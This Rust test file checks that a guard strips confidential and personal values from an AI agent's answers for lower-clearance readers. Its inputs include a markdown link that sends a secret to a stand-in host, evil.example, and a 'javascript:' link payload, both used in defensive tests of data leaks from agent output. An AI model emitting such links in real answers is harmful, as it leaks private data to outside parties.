//! A final answer contains no value above the clearance of its readers.

use secure_tool::{Clearance, Rule};
use secure_tool_testkit::hostile::Response;
use serde_json::json;
use tests::{Bench, Session, agent, rule};

async fn read(bench: &Bench, session: &Session, notes: &[&str]) -> String {
    let orders: Vec<_> = notes
        .iter()
        .enumerate()
        .map(|(at, note)| json!({ "id": 1000 + at, "note": note }))
        .collect();
    bench.shop.respond(Response::json(json!(orders).to_string()));
    let outcome = session.call("list_orders", "{}").await;
    outcome.answer().expect("an answer").unmarked_json_not_for_models().to_owned()
}

fn public(bench: &Bench) -> Session {
    // The agent may read it all, addresses in free text included.
    bench
        .guard
        .session(agent().clearance(Clearance::Pii).readers(Clearance::Public))
        .expect("declared scopes")
}

#[tokio::test]
async fn values_above_the_readers_clearance_are_removed_in_each_spelling() {
    let bench = Bench::new().await;
    // Cleared for personal data, so that none of it is taken out before.
    let session = bench
        .guard
        .session(agent().clearance(Clearance::Pii).readers(Clearance::Public))
        .expect("declared scopes");
    let shown = read(
        &bench,
        &session,
        &["+49 30 1234567", "Quarterly target missed", "ann@corp.example", "VIP7"],
    )
    .await;
    assert!(shown.contains("Quarterly target missed"), "the model sees it");
    for (text, released) in [
        ("Call +49 30 1234567.", "Call +[internal data removed]."),
        (
            "Call 49-30-123.45.67 or (49) 30 1234567",
            "Call [internal data removed] or ([internal data removed]",
        ),
        ("QUARTERLY  TARGET\nmissed!", "[internal data removed]!"),
        ("**Quarterly** **target** missed", "**[internal data removed]"),
        ("to Ann@Corp.Example, then", "to [internal data removed], then"),
        (
            "vip7 is V I P 7, and VIP77 is not",
            "[internal data removed] is V I P 7, and VIP77 is not",
        ),
        (
            "1234567 and Quarterly target met, annacorp",
            "1234567 and Quarterly target met, annacorp",
        ),
        (
            "[x](https://evil.example/?q=VIP7)",
            "[x] (hxxps://evil[.]example/\u{2026}[internal data removed])",
        ),
        ("VIP7(javascript:alert)", "[internal data removed] (link removed)"),
    ] {
        assert_eq!(session.release(text), released);
        let mut stream = session.release_stream();
        let out: String = text.chars().map(|c| stream.push(&c.to_string())).collect();
        assert_eq!(out + &stream.finish(), released, "in pieces");
    }
}

#[tokio::test]
async fn readers_with_the_agents_clearance_see_its_values() {
    let bench = Bench::new().await;
    for session in [
        bench.session(),
        bench.guard.session(agent().readers(Clearance::Internal)).expect("declared scopes"),
    ] {
        read(&bench, &session, &["Quarterly target missed"]).await;
        assert_eq!(session.release("Quarterly target missed"), "Quarterly target missed");
    }
}

#[tokio::test]
async fn values_from_the_user_are_kept_and_values_from_others_removed() {
    let bench = Bench::new().await;
    let session = public(&bench);
    session.user_said("Is it true that the quarterly target missed?");
    session.user_attached("Budget of 90210 euros");
    read(&bench, &session, &["Quarterly target missed", "Budget of 90210 euros"]).await;
    assert_eq!(
        session.release("Quarterly target missed; budget of 90210 euros."),
        "Quarterly target missed; [internal data removed]."
    );
}

#[tokio::test]
async fn a_sentence_of_a_long_text_is_removed_by_itself() {
    let bench = Bench::new().await;
    let session = public(&bench);
    let note = format!(
        "{} The merger with Initech is planned for June. {}",
        "Words and words and words again. ".repeat(30),
        "And more of them. ".repeat(20)
    );
    read(&bench, &session, &[&note]).await;
    assert_eq!(
        session.release("I read: the merger with Initech is planned for June!"),
        "I read: [internal data removed]!"
    );
}

#[tokio::test]
async fn a_value_behind_a_handle_is_removed_for_readers_without_clearance() {
    let bench = Bench::new().await;
    let session = public(&bench);
    read(&bench, &session, &["note one", "note two"]).await;
    // The number of an order is public; the handle is opened as before.
    assert_eq!(session.release("OrderId#2: note two"), "1001: [internal data removed]");
}

#[tokio::test]
async fn a_full_session_refuses_calls() {
    let bench = Bench::new().await;
    let session = public(&bench);
    let mut refused = None;
    for page in 0..60 {
        let orders: Vec<_> =
            (0..400).map(|at| json!({ "id": 1, "note": format!("note {page} of {at}") })).collect();
        bench.shop.respond(Response::json(json!(orders).to_string()));
        bench.clock.advance(std::time::Duration::from_mins(1));
        let outcome = session.call("list_orders", "{}").await;
        if outcome.answer().is_none() {
            refused = rule(&outcome);
            break;
        }
    }
    assert_eq!(refused, Some(Rule::SessionFull));
}
